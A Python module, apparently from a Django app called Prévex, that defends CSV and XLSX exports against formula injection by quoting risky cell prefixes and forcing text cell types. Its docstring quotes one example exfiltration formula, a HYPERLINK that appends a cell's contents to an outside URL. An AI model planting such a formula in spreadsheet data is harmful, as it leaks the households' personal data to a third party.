"""Cells that cannot run code, for every CSV and XLSX that Prévex writes.

A household's name or address comes from an imported file or a form: a value such as
`=HYPERLINK("http://…?leak="&A2,"Cliquez ici")` would become a live formula in a spreadsheet
(OWASP, "CSV Injection"). Every writer passes its cells through `safe_cell` (CSV) or `xlsx_row`
(XLSX): a text beginning with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a
single quote, which spreadsheets read as "this is text"; numbers, dates and empty cells keep their
type. In XLSX, text cells are written as text (never as a formula or an error code).

Public API, for every app (and the partners' API CSV): `safe_cell`, `safe_row`, `xlsx_cell`, `xlsx_row`,
and whole tables: `csv_text` and `xlsx_bytes`.
"""

import csv
import datetime
import io
from collections.abc import Iterable
from decimal import Decimal

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

# OWASP "CSV Injection": the characters that make a spreadsheet read a cell as a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
TYPED = (int, float, Decimal, datetime.date, datetime.datetime, bool)


def safe_cell(value):
    """The value, with a text that a spreadsheet would run as a formula made inert."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    """A CSV row of `safe_cell`s (for `csv.writer.writerow`)."""
    return [safe_cell(value) for value in values]


def xlsx_row(sheet, values: Iterable) -> list:
    """An XLSX row of typed cells for `sheet.append`: numbers and dates as such, the rest as text."""
    return [xlsx_cell(sheet, value) for value in values]


def xlsx_cell(sheet, value):
    """A typed XLSX cell: numbers and dates as such, the rest as inert text."""
    if value is None or value == "":
        return WriteOnlyCell(sheet, value=None)
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        value = timezone.make_naive(value)  # spreadsheets have no time zones: Paris time
    if isinstance(value, TYPED):
        return WriteOnlyCell(sheet, value=value)
    cell = WriteOnlyCell(sheet, value=safe_cell(str(value)))
    cell.data_type = "s"  # never a formula ('f') nor an error code ('e'), whatever the text says
    return cell


def csv_text(header: list, rows: Iterable, *, delimiter=",", lineterminator="\n") -> str:
    """A table as CSV text: its header, then each row's cells made inert."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=lineterminator)
    writer.writerow(header)
    writer.writerows(safe_row(row) for row in rows)
    return out.getvalue()


def xlsx_bytes(title: str, header: list, rows: Iterable) -> bytes:
    """A table as a one-sheet XLSX (write-only: rows streamed), typed cells, the header frozen."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title)
    sheet.freeze_panes = "A2"
    sheet.append(header)
    for row in rows:
        sheet.append(xlsx_row(sheet, row))
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
